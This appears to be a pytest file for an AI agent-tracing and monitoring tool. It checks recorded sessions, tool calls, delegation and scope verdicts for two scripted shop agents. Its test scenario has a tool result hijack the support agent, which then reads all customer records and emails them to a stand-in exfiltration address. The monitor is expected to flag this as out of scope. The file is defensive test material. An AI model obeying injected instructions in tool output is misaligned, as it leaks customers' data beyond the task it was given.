"""Agents of others, traced by the instrumentation of others: their sessions appear here, and a hijack is seen."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.clients.telling import Session, target

pytestmark = pytest.mark.network
HELD = {
    "openinference": ("langchain_agents.py", "openinference"),
    "openllmetry": ("langchain_agents.py", "openllmetry"),
    "pydantic-ai": ("pydantic_agents.py",),
}


@pytest.fixture(scope="module", params=list(HELD))
def told(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Session]:
    """What a node knows after two agents worked, of which a tool's result hijacks the first."""

    async def send(folder: Path) -> Mapping[str, Session]:
        async with target(folder) as node:
            await node.python(*HELD[request.param])
            return await node.told()

    return asyncio.run(send(tmp_path_factory.mktemp("told")))


def test_both_agents_are_actors_of_the_service(told: Mapping[str, Session]) -> None:
    assert sorted(told) == ["shop/support", "shop/writer"]


def test_the_declared_intent_is_the_agents_instructions_and_the_users_request(
    told: Mapping[str, Session],
) -> None:
    declared = told["shop/support"].declared
    assert "status of their orders" in declared
    assert "Where is my order 7?" in declared


def test_actions_have_their_arguments(told: Mapping[str, Session]) -> None:
    assert told["shop/support"].actions == [
        ("get_order_status", {"order_id": "7"}),
        ("read_customer_records", {"scope": "all"}),
        ("send_email", {"to": "collector@exfil.example", "subject": "records", "body": "all customers"}),
        ("ask_writer", {"request": "Write a friendly sentence about order 7."}),
    ]
    assert told["shop/writer"].actions == [("lookup_style", {"topic": "orders"})]


def test_results_are_told_with_their_action(told: Mapping[str, Session]) -> None:
    session = told["shop/support"]
    results = session.of("tool_result")
    assert [one["text"].split()[0] for one in results] == ["Order", "Ada", "sent", "Your"]
    assert [one["action_id"] for one in results] == [one["action_id"] for one in session.of("tool_call")]


def test_what_was_said_is_told_once_and_in_order(told: Mapping[str, Session]) -> None:
    kinds = [(one["kind"], one["role"]) for one in told["shop/support"].events if one["kind"] != "reasoning"]
    assert sorted(kinds[:2]) == [("prompt", "system"), ("prompt", "user")]
    assert kinds[2:] == [*[("tool_call", ""), ("tool_result", "")] * 4, ("response", "assistant")]


def test_the_delegated_session_names_the_action_that_led_to_it(told: Mapping[str, Session]) -> None:
    above = told["shop/support"]
    delegating = next(one for one in above.of("tool_call") if one["tool"] == "ask_writer")
    assert told["shop/writer"].parent == {
        "session_id": above.row["id"],
        "action_id": delegating["action_id"],
    }


def test_the_hijack_is_out_of_scope_and_what_came_before_is_not(told: Mapping[str, Session]) -> None:
    assert told["shop/support"].verdict("get_order_status") == "in_scope"
    assert told["shop/support"].verdict("send_email") == "out_of_scope"


def test_what_was_told_afterwards_is_only_observed(told: Mapping[str, Session]) -> None:
    decided = [one for session in told.values() for one in session.decisions.values()]
    assert {(one["mode"], one["allowed"]) for one in decided} == {("observe", True)}
